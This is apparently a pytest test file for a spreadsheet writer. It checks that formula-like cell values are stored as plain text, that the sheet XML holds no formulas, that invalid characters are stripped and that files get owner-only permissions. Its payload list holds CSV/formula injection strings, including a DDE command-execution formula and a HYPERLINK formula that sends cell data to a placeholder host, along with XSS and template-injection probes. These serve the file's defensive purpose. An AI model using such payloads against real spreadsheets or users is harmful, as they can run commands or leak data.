"""The one spreadsheet writer: whatever a cell begins with, it is text, here and in the readers of others."""

from __future__ import annotations

import zipfile
from io import BytesIO
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from linli.registry.sheets import MOST_CHARACTERS, writing

PAYLOADS = (
    "=1+1", "+8613900041000", "-5", "@SUM(A1)", "=HYPERLINK(\"http://x/?\"&A1)", "\t=1", "\r=1", "＝1+1",
    "＋1", "－1", "＠x",
    "=cmd|' /C calc'!A0", "<script>alert(1)</script>", "]]>&amp;", "{{7*7}}", "139000410001", "001234", "1E5", "2021-12-5",
    "TRUE", "#N/A", "_x000D_", "𠮷 䶮 ·", "a\nb", " 前后有空格 ",
)  # fmt: skip


def written(*rows: tuple[str | int | None, ...]) -> bytes:
    stream = BytesIO()
    with writing(stream, title="结果[1]") as sheet:
        for row in rows:
            sheet.row(row)
    return stream.getvalue()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_comes_back_as_that_text_and_never_as_a_formula(payload: str) -> None:
    cell = openpyxl.load_workbook(BytesIO(written((payload,)))).active["A1"]
    assert cell.data_type in ("s", "inlineStr")
    assert cell.value.replace("_x005F_", "_") == payload
    assert cell.quotePrefix


def test_no_part_of_the_file_holds_a_formula() -> None:
    archive = zipfile.ZipFile(BytesIO(written(*((p,) for p in PAYLOADS))))
    sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    assert [e for e in sheet.iter() if e.tag.endswith("}f")] == []


def test_only_whole_numbers_are_numbers() -> None:
    row = next(
        openpyxl.load_workbook(BytesIO(written((7, "7", None, "")))).active.iter_rows(values_only=True)
    )
    assert row[:2] == (7, "7")
    assert set(row[2:]) <= {None}


def test_what_xml_cannot_hold_is_left_out_and_too_long_a_text_is_cut() -> None:
    book = openpyxl.load_workbook(BytesIO(written(("a\x00\x08\ufffeb", "x" * 40_000))))
    assert [len(book.active["A1"].value), len(book.active["B1"].value)] == [2, MOST_CHARACTERS]


def test_a_file_is_readable_by_its_owner_only(tmp_path: Path) -> None:
    with writing(tmp_path / "a.xlsx") as sheet:
        sheet.row(["x"])
    assert oct((tmp_path / "a.xlsx").stat().st_mode & 0o777) == "0o600"
